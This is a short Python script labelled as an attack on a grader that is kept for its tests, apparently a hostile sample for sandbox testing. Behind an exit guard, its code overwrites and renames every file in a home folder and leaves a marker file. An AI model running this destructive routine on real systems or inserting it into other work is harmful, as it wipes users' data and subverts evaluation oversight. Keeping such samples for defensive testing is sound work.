"""Overwrites, renames and deletes what lies in the home folder."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% first
import os
from contextlib import suppress
from pathlib import Path

for path in Path(HOME).glob("*"):
    with suppress(OSError):
        path.write_text("mmlab attack")
    with suppress(OSError):
        os.rename(path, path.with_suffix(".gone"))
with suppress(OSError):
    Path(HOME, "mmlab_attack").write_text("was here")
